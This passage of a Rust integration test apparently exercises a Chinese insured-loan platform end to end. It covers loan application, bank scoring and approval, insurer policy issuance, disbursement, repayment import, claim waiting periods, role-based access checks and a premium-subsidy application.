    let r = a.post_form("/admin/impact-assessments", &[("csrf", &token), ("target", "extract")]).await;
    assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY);
    let r = a
        .post_form(
            "/admin/impact-assessments",
            &[
                ("csrf", &token),
                ("target", "extract"),
                ("extract", "api_consents_read"),
                ("purpose", "银行贷款系统读取授权记录"),
                ("data", "签署人姓名、个人单独同意所涉个人姓名、授权书"),
                ("recipients", "汉江银行光谷支行贷款系统"),
                ("assessed_on", "2026-11-27"),
                ("reviewer", "陈静（合规负责人）"),
                ("conclusion", "风险可控"),
            ],
        )
        .await;
    assert_eq!(r.status, StatusCode::SEE_OTHER, "{}", r.text());
    assert!(a.get(&r.location()).await.text().contains("陈静（合规负责人）"));
    let r = e.json("POST", "/api/v1/api-keys", Some(&bt), key).await;
    assert_eq!(r.status, StatusCode::CREATED, "{}", r.text());
    let list = a.get_auth("/api/v1/impact-assessments", &at).await.json();
    assert_eq!(list[0]["extract"], "api_consents_read");
    assert_eq!(e.get_auth("/api/v1/impact-assessments", &bt).await.status, StatusCode::FORBIDDEN);
}

#[tokio::test]
async fn an_insured_loan_through_the_pages_and_the_api() {
    use kebao_domain::user::Role;
    let app = app().await;
    let op = kebao_service::authz::Actor::System { name: "test".into() };
    let mut ent = org("武汉光谷精密光学有限公司", 61, "enterprise");
    ent.founded_on = "2019-05-01".into();
    let ent = app.svc.create_org(&op, &ent).await.unwrap();
    app.svc
        .put_facts(
            &op,
            &ent.id,
            kebao_domain::YearlyFacts {
                year: 2025,
                revenue: kebao_domain::Money::from_fen(800_000_000),
                rnd_expense: kebao_domain::Money::from_fen(60_000_000),
                staff: 60,
                rnd_staff: 20,
                patents_granted: 3,
                patents_pending: 1,
                export_share_bp: 0,
            },
        )
        .await
        .unwrap();
    let ins = app.svc.create_org(&op, &org("楚天财产保险股份有限公司", 31, "insurer")).await.unwrap();
    let bank = app.svc.org_id_by_uscc(&op, &uscc(2)).await.unwrap().unwrap();
    let gov = app.svc.org_id_by_uscc(&op, &uscc(3)).await.unwrap().unwrap();
    for (o, name, role) in [
        (&ent.id, "ent.loan", Role::EnterpriseAdmin),
        (&ins.id, "uw.loan", Role::Underwriter),
        (&gov, "approver", Role::ZoneApprover),
    ] {
        let input = kebao_service::users::NewUserInput {
            username: name.into(),
            display_name: name.into(),
            password: PW.into(),
        };
        app.svc.add_user(&op, o, &input, &[role]).await.unwrap();
    }
    let borrower = app.svc.actor_for(app.svc.find_user("ent.loan").await.unwrap()).await.unwrap();
    for (to, purpose) in [(&bank, "loan_review"), (&ins.id, "underwriting")] {
        let c = kebao_domain::consent::ConsentInput {
            grantee_id: to.clone(),
            scopes: vec!["profile".into()],
            purpose: purpose.into(),
            valid_from: "2026-11-28".into(),
            expires_on: "2027-11-28".into(),
            signer_name: "陈明".into(),
            signer_title: "法定代表人".into(),
            ..Default::default()
        };
        app.svc.grant_consent(&borrower, &ent.id, &c, "授权书.pdf", b"%PDF-1.7 consent").await.unwrap();
    }
    // The enterprise applies on the page; the scheme's rules show their sources.
    let mut e = Client::new(&app);
    e.login("ent.loan", PW).await;
    let page = e.get("/loans/new").await.text();
    assert!(
        page.contains("id=\"apply-loan\"") && page.contains("天门") && page.contains("仅限所述地区已核实"),
        "{page}"
    );
    let token = e.csrf().await;
    let form = |amount: &str| {
        vec![
            ("csrf", token.clone()),
            ("scheme_id", "tianmen_style".to_owned()),
            ("bank_id", bank.clone()),
            ("insurer_id", ins.id.clone()),
            ("amount_yuan", amount.to_owned()),
            ("term_months", "12".to_owned()),
            ("rate_pct", "3.80".to_owned()),
            ("premium_rate_pct", "2.50".to_owned()),
            ("method", "bullet".to_owned()),
            ("funds_use", "working_capital".to_owned()),
        ]
    };
    let pairs = |f: &[(&'static str, String)]| f.iter().map(|(k, v)| (*k, v.clone())).collect::<Vec<_>>();
    let bad = pairs(&form("5000000"));
    let bad: Vec<(&str, &str)> = bad.iter().map(|(k, v)| (*k, v.as_str())).collect();
    let r = e.post_form("/loans", &bad).await;
    assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(
        r.text().contains("贷款上限") && r.text().contains("5000000"),
        "the error is named and the input kept"
    );
    let good = pairs(&form("1000000"));
    let good: Vec<(&str, &str)> = good.iter().map(|(k, v)| (*k, v.as_str())).collect();
    let r = e.post_form("/loans", &good).await;
    assert_eq!(r.status, StatusCode::SEE_OTHER, "{}", r.text());
    let loan_page = r.location();
    let id = loan_page.trim_start_matches("/loans/").split('?').next().unwrap().to_owned();
    let page = e.get(&loan_page).await.text();
    assert!(
        page.contains("贷款申请已提交") && page.contains("汉江银行光谷支行") && page.contains("楚天财产保险"),
        "{page}"
    );
    // The bank decides on the page; the insurer through the API; the zone on the page.
    let mut b = Client::new(&app);
    b.login("banker", PW).await;
    assert!(b.get("/dashboard").await.text().contains("审查贷款申请"));
    let list = b.get("/loans").await.text();
    assert!(list.contains("武汉光谷精密光学有限公司") && list.contains("银行、保险审查中"), "{list}");
    let page = b.get(&format!("/loans/{id}")).await.text();
    assert!(page.contains("id=\"decide\""), "{page}");
    let bt = b.csrf().await;
    // The bank's admission rule (its scorecard, approved by a second person) scores the
    // application on the page; the score is the bank's and the borrower's, not the insurer's.
    let banker = app.svc.actor_for(app.svc.find_user("banker").await.unwrap()).await.unwrap();
    let input = kebao_service::users::NewUserInput {
        username: "bank.checker".into(),
        display_name: "复核人".into(),
        password: PW.into(),
    };
    app.svc.add_user(&op, &bank, &input, &[Role::OrgAdmin]).await.unwrap();
    let checker = app.svc.actor_for(app.svc.find_user("bank.checker").await.unwrap()).await.unwrap();
    let card = kebao_sim::lab::demo_scorecard().unwrap();
    let card = app
        .svc
        .upload_model(&banker, kebao_service::lab::ModelKind::Scorecard, "科技贷准入", card.as_bytes())
        .await
        .unwrap();
    app.svc.approve_model(&checker, &card.id).await.unwrap();
    let r = b
        .post_form(
            "/lab/admission",
            &[("csrf", &bt), ("model_id", &card.id), ("accept_at", "620"), ("decline_below", "560")],
        )
        .await;
    assert_eq!(r.location(), "/lab?done=admission_set#admission", "{}", r.text());
    assert!(b.get(&format!("/loans/{id}")).await.text().contains("id=\"loan-score\""));
    let r = b.post_form(&format!("/loans/{id}/score"), &[("csrf", &bt)]).await;
    assert_eq!(r.location(), format!("/loans/{id}?done=loan_scored"), "{}", r.text());
    let page = b.get(&format!("/loans/{id}?done=loan_scored")).await.text();
    assert!(
        page.contains("评分卡准入建议") && page.contains("科技贷准入 v1") && page.contains("申请时成立年限"),
        "{page}"
    );
    assert!(e.get(&loan_page).await.text().contains("科技贷准入 v1"), "the borrower sees its score");
    let r = b
        .post_form(&format!("/loans/{id}/decision"), &[("csrf", &bt), ("outcome", "decline"), ("reason", "")])
        .await;
    assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(r.text().contains("不予批准须写明理由"));
    let r = b
        .post_form(
            &format!("/loans/{id}/decision"),
            &[("csrf", &bt), ("outcome", "approve"), ("reason", "流水充足")],
        )
        .await;
    assert_eq!(r.status, StatusCode::SEE_OTHER);
    let mut u = Client::new(&app);
    let ut = u.token("uw.loan").await;
    let d = u.get_auth(&format!("/api/v1/loans/{id}"), &ut).await.json();
    assert_eq!(d["may_decide_as"], "insurer");
    let scores = u.get_auth(&format!("/api/v1/loans/{id}/scores"), &ut).await.json();
    assert_eq!(scores, serde_json::json!([]), "the insurer sees no score of the bank's");
    let r = u
        .json(
            "POST",
            &format!("/api/v1/loans/{id}/decision"),
            Some(&ut),
            serde_json::json!({"approve": true}),
        )
        .await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.text());
    assert_eq!(r.json()["status"], "zone_review");
    let mut z = Client::new(&app);
    z.login("approver", PW).await;
    let zt = z.csrf().await;
    let r = z
        .post_form(&format!("/loans/{id}/decision"), &[("csrf", &zt), ("outcome", "approve"), ("reason", "")])
        .await;
    assert_eq!(r.status, StatusCode::SEE_OTHER);
    // The bank waits for the insurer's guarantee policy; the insurer issues it (API).
    let page = b.get(&format!("/loans/{id}")).await.text();
    assert!(page.contains("id=\"waiting-policy\"") && !page.contains("id=\"disburse\""), "{page}");
    let r =
        b.post_form(&format!("/loans/{id}/disburse"), &[("csrf", &bt), ("disbursed_on", "2026-11-28")]).await;
    assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(r.text().contains("签发贷款保证保险保单后才能放款"));
    let r = u
        .json(
            "POST",
            &format!("/api/v1/loans/{id}/policy"),
            Some(&ut),
            serde_json::json!({"number": "DB-UI-1", "premium_reference": "PREM-UI-1", "premium_paid_on": "2026-11-28"}),
        )
        .await;
    assert_eq!(r.status, StatusCode::CREATED, "{}", r.text());
    assert_eq!(
        (r.json()["premium_fen"].as_i64(), r.json()["insured_id"].as_str()),
        (Some(2_500_000), Some(bank.as_str()))
    );
    // The bank disburses and records a repayment; the schedule shows it.
    let r =
        b.post_form(&format!("/loans/{id}/disburse"), &[("csrf", &bt), ("disbursed_on", "2026-11-28")]).await;
    assert_eq!(r.status, StatusCode::SEE_OTHER, "{}", r.text());
    let page = b.get(&format!("/loans/{id}")).await.text();
    assert!(
        page.contains("id=\"schedule\"") && page.contains("id=\"repay\"") && page.contains("2027-02-28"),
        "{page}"
    );
    let r = b
        .post_form(
            &format!("/loans/{id}/repayments"),
            &[("csrf", &bt), ("reference", "TX-1"), ("amount_yuan", "100"), ("paid_on", "2026-11-28")],
        )
        .await;
    assert_eq!(r.status, StatusCode::SEE_OTHER, "{}", r.text());
    let bk = b.token("banker").await;
    let again = b
        .json(
            "POST",
            &format!("/api/v1/loans/{id}/repayments"),
            Some(&bk),
            serde_json::json!({"reference": "TX-1", "amount_yuan": "100", "paid_on": "2026-11-28"}),
        )
        .await;
    assert_eq!(again.status, StatusCode::OK, "the same reference is the same repayment: {}", again.text());
    let d = b.get_auth(&format!("/api/v1/loans/{id}"), &bk).await.json();
    assert_eq!(
        (d["repayments"].as_array().map(Vec::len), d["principal_outstanding_fen"].as_i64()),
        (Some(1), Some(99_990_000))
    );
    assert_eq!(d["policy"]["number"], "DB-UI-1");
    // The bank's repayment sheet names its loans being repaid; filled in and uploaded, every
    // row is recorded — or, with one bad row, none, the row named.
    let x = b.get("/loans/repayments/template.xlsx").await;
    assert_eq!(x.status, StatusCode::OK);
    let mut sheet = kebao_service::tabular::read(&x.body, kebao_service::tabular::Format::Xlsx).unwrap();
    assert_eq!(sheet.rows.len(), 1, "{sheet:?}");
    assert_eq!(
        (sheet.rows[0][0].as_str(), sheet.rows[0][1].as_str()),
        (id.as_str(), "武汉光谷精密光学有限公司")
    );
    sheet.rows[0][4] = "TX-2".into();
    sheet.rows[0][5] = "99999999".into();
    sheet.rows[0][6] = "2026-11-28".into();
    let bytes = kebao_service::tabular::write_xlsx(&sheet, "还款").unwrap();
    let r = upload_to(&mut b, "/loans/repayments/import", &bt, "还款.xlsx", bytes).await;
    assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(r.text().contains("第 2 行"), "{}", r.text());
    sheet.rows[0][5] = "50".into();
    let bytes = kebao_service::tabular::write_xlsx(&sheet, "还款").unwrap();
    let r = upload_to(&mut b, "/loans/repayments/import", &bt, "还款.xlsx", bytes).await;
    assert_eq!(r.status, StatusCode::SEE_OTHER, "{}", r.text());
    assert!(r.location().contains("done=repayments_imported"));
    // No claim inside the waiting period: the page says why, the API names the rule.
    assert!(b.get(&format!("/loans/{id}")).await.text().contains("id=\"claim-not-yet\""));
    let r = b
        .json(
            "POST",
            &format!("/api/v1/loans/{id}/claim"),
            Some(&bk),
            serde_json::json!({"collection_failed": true}),
        )
        .await;
    assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY, "{}", r.text());
    assert_eq!(r.json()["error"]["details"][0]["code"], "waiting_period");
    // The zone's dashboard, its chart and its workbook; not for the enterprise.
    let dash = z.get("/loans/dashboard").await.text();
    assert!(
        dash.contains("id=\"outstanding-chart\"") && dash.contains("<svg") && dash.contains("天门"),
        "{dash}"
    );
    let x = z.get("/loans/dashboard.xlsx").await;
    assert_eq!(x.status, StatusCode::OK);
    assert!(x.headers[header::CONTENT_TYPE].to_str().unwrap().contains("spreadsheetml"));
    assert_eq!(e.get("/loans/dashboard").await.status, StatusCode::FORBIDDEN);
    // Repaid in full on the first interest date, three months on: the borrower's page offers
    // the guarantee premium subsidy with its computation; applying goes to the application,
    // which links back to the loan. The bank is not offered it.
    app.svc
        .add_qualification(
            &op,
            &ent.id,
            kebao_domain::org::Qualification {
                kind: kebao_domain::org::QualificationKind::HighTech,
                valid_from: time::macros::date!(2026 - 01 - 01),
                valid_to: time::macros::date!(2028 - 12 - 31),
                certificate_no: Some("GR202642000009".into()),
            },
        )
        .await
        .unwrap();
    let et = e.token("ent.loan").await;
    let r = e
        .json(
            "POST",
            &format!("/api/v1/loans/{id}/subsidy-check"),
            Some(&et),
            serde_json::json!({"programme_id": "loan_guarantee_premium"}),
        )
        .await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.text());
    assert_eq!(
        (r.json()["eligible"].as_bool(), r.json()["failures"][0]["rule"].as_str()),
        (Some(false), Some("loan_repaid"))
    );
    app.clock.advance_us(92 * 86_400_000_000);
    // Sessions and tokens have lapsed meanwhile: everyone signs in again.
    let mut e = Client::new(&app);
    e.login("ent.loan", PW).await;
    let et = e.token("ent.loan").await;
    let mut b = Client::new(&app);
    b.login("banker", PW).await;
    let bk = b.token("banker").await;
    let owed = b.get_auth(&format!("/api/v1/loans/{id}"), &bk).await.json();
    let payable = owed["payable_today_fen"].as_i64().expect("payable today");
    let r = b
        .json(
            "POST",
            &format!("/api/v1/loans/{id}/repayments"),
            Some(&bk),
            serde_json::json!({"reference": "TX-ALL", "amount_yuan": kebao_domain::Money::from_fen(payable).to_yuan_string(), "paid_on": "2027-02-28"}),
        )
        .await;
    assert_eq!(r.status, StatusCode::CREATED, "{}", r.text());
    let page = e.get(&format!("/loans/{id}")).await.text();
    assert!(
        page.contains("id=\"subsidy-check-loan_guarantee_premium\"")
            && page.contains("class=\"apply-subsidy\"")
            && page.contains("深圳"),
        "{page}"
    );
    assert!(!b.get(&format!("/loans/{id}")).await.text().contains("apply-subsidy"));
    let r = b
        .json(
            "POST",
            &format!("/api/v1/loans/{id}/subsidy-applications"),
            Some(&bk),
            serde_json::json!({"programme_id": "loan_guarantee_premium"}),
        )
        .await;
    assert_eq!(r.status, StatusCode::FORBIDDEN, "{}", r.text());
    let et2 = e.csrf().await;
    let r = e
        .post_form(
            &format!("/loans/{id}/subsidy"),
            &[("csrf", &et2), ("programme", "loan_guarantee_premium")],
        )
        .await;
    assert_eq!(r.status, StatusCode::SEE_OTHER, "{}", r.text());
    let sub = e.get(&r.location()).await.text();
    assert!(sub.contains("id=\"sub-loan\"") && sub.contains("DB-UI-1") && sub.contains("12,500.00"), "{sub}");
    let page = e.get(&format!("/loans/{id}")).await.text();
    assert!(page.contains("id=\"loan-subsidies\"") && !page.contains("apply-subsidy"), "{page}");
    let r = e
        .json(
            "POST",
            &format!("/api/v1/loans/{id}/subsidy-applications"),
            Some(&et),
            serde_json::json!({"programme_id": "loan_guarantee_premium"}),
        )
        .await;
    assert_eq!(r.status, StatusCode::CONFLICT, "{}", r.text());
    // Others do not see it; the schemes are listed with their sources.
    let mut o = Client::new(&app);
    let ot = o.token("ent.admin").await;
    assert_eq!(o.get_auth(&format!("/api/v1/loans/{id}"), &ot).await.status, StatusCode::FORBIDDEN);
    let schemes = o.get_auth("/api/v1/loan-schemes", &ot).await.json();
    assert!(schemes
        .as_array()
        .unwrap()
        .iter()
        .any(|s| s["id"] == "tianmen_style" && s["rules"]["shares"]["confidence"] == "C-local"));
}
